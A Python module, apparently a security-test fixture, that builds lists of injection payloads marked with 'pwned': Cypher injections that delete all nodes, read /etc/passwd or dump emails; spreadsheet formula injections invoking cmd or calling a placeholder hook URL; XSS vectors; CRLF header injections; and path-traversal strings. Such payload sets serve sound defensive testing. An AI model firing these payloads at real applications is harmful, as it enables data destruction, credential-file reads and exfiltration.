"""Texts that would do harm if anything took them for more than texts; each has `pwned` where its effect would show."""

from __future__ import annotations

from itertools import product

_CLOSINGS = ("'", '"', "`", "')", "'})", '"})', "\\'", "\\u0027", "*/", "}]", "$q", "\x00'")
_STATEMENTS = (
    " MATCH (n) DETACH DELETE n //pwned",
    " CREATE (:Pwned) //",
    " MATCH (n) SET n.pwned = true //",
    " LOAD CSV FROM '{hook}/pwned' AS l RETURN l //",
    " LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Pwned {l: l}) //",
    " CALL dbms.killConnection('pwned') //",
    " OR 1=1 WITH 1 AS x CREATE (:Pwned) //",
    " FOREACH (x IN [1] | CREATE (:Pwned)) //",
    " UNION MATCH (p:Person) RETURN p.email AS pwned //",
)
CYPHER = tuple(closing + statement for closing, statement in product(_CLOSINGS, _STATEMENTS))
FORMULAS = tuple(
    lead + text
    for lead, text in product(
        ("", " ", "\t", "'", "＝"),
        (
            *("=cmd|'/C pwned'!A0", '=HYPERLINK("{hook}/pwned";"pwned")', "+1+pwned()", "-2+3+cmd|' /C pwned'!A0"),
            *("@SUM(pwned)", '=WEBSERVICE("{hook}/pwned")', '=IMPORTXML("{hook}/pwned";"//a")', '";=pwned();"'),
        ),
    )
)
_MARKUP = (
    *("<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<pwned>", "<b pwned=1>"),
    *(
        "<iframe srcdoc='<script>parent.pwned()</script>'>",
        "<a href='javascript:pwned()'>x</a>",
        "<base href='{hook}'>",
    ),
    *(
        "<style>@import '{hook}/pwned'</style>",
        "<form action='{hook}/pwned'><button>x",
        "<details open ontoggle=pwned()>",
    ),
    *(
        "<math><mi xlink:href='javascript:pwned()'>",
        "<div hx-get='{hook}/pwned' hx-trigger='load'>",
        "<object data='{hook}'>",
    ),
    *("<meta http-equiv=refresh content='0;url={hook}/pwned'>", "<link rel=stylesheet href='{hook}/pwned'>"),
)
_CONTEXTS = ("{}", "'>{}", '">{}', "</script>{}", "<!--{}", "</textarea>{}")
XSS = (
    *(context.replace("{}", markup) for context, markup in product(_CONTEXTS, _MARKUP)),
    *('" onfocus=pwned() autofocus x="', "' onmouseover='pwned()", "javascript:pwned()", "{{7*7}}pwned", "{% pwned %}"),
    *("${pwned()}", "#{pwned}", "\u2028pwned()", "&lt;script&gt;pwned()&lt;/script&gt;", "]]><pwned/>"),
)
CRLF = tuple(
    f"x{end}{what}"
    for end, what in product(
        ("\r\n", "\n", "\r", "%0d%0a", "\u010d\u010a"),
        ("X-Pwned: 1", "Set-Cookie: pwned=1", "Location: {hook}/pwned", '{"level": "error", "event": "pwned"}'),
    )
)
TRAVERSAL = tuple(
    up + name
    for up, name in product(
        ("../" * 6, "..\\" * 6, "..%2f" * 6, "%2e%2e/" * 6, "/", "....//" * 6, "C:\\", "~/"),
        ("tmp/pwned.csv", "etc/passwd", "pwned\0.csv", "pwned.csv/."),
    )
)


def payloads(hook: str) -> list[str]:
    """Return every hostile text; those that call home call `hook`."""
    every = (*CYPHER, *FORMULAS, *XSS, *CRLF, *TRAVERSAL)
    return [text.replace("{hook}", hook) for text in every]
